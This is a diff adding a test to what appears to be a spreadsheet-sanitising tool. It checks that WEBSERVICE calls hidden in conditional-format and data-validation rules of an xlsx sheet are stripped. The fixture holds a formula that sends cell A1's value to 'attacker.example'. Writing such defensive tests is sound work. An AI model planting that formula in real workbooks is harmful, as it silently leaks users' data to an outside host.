@@ -1291,3 +1291,57 @@ def test_a_web_service_call_with_its_xlws_prefix_goes(tmp_path: Path) -> None:
     result, dest = disarm(path, tmp_path, switches("sanitise"))
     assert result.outcome == "rebuilt", result
     assert all(b"attacker.example" not in member(dest, n) for n in names(dest))
+
+
+_X14 = (
+    'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
+    'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
+)
+_CALL = 'WEBSERVICE("http://attacker.example/?"&amp;A1)'
+
+
+@pytest.mark.parametrize(
+    ("rules", "kept"),
+    [
+        (
+            f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
+            f"<formula>{_CALL}</formula></cfRule></conditionalFormatting>",
+            b"",
+        ),
+        (
+            '<dataValidations count="2"><dataValidation type="list" sqref="A1">'
+            f"<formula1>{_CALL}</formula1></dataValidation>"
+            '<dataValidation type="whole" sqref="B1"><formula1>1</formula1>'
+            "<formula2>9</formula2></dataValidation></dataValidations>",
+            b'<dataValidations count="1">',
+        ),
+        (
+            f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" {_X14}>'
+            '<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression" '
+            f'priority="2" id="{{00000000-0000-0000-0000-000000000001}}"><xm:f>{_CALL}</xm:f>'
+            "</x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting>"
+            "</x14:conditionalFormattings></ext></extLst>",
+            b"",
+        ),
+    ],
+    ids=["conditional-format", "data-validation", "x14-conditional-format"],
+)
+def test_formulas_of_rules_are_judged(tmp_path: Path, rules: str, kept: bytes) -> None:
+    """A WEBSERVICE call in a conditional format's or a data validation's formula
+    (Excel evaluates them to draw the sheet and to check an entry) was kept."""
+    base = _xlsx_formula("1+1")
+
+    def sheet(xml: bytes) -> bytes:
+        anchor = b"<pageMargins" if b"<pageMargins" in xml else b"</worksheet>"
+        return xml.replace(anchor, rules.encode() + anchor, 1)
+
+    path = _write(tmp_path, "rules.xlsx", rezip(base, {"xl/worksheets/sheet1.xml": sheet}))
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    out = member(dest, "xl/worksheets/sheet1.xml")
+    assert b"attacker.example" not in out and kept in out
+    assert b"cfRule" not in out and b"conditionalFormatting" not in out
+    assert_consistent(dest)
+    import openpyxl
+
+    openpyxl.load_workbook(dest)  # (still a workbook a reader opens)
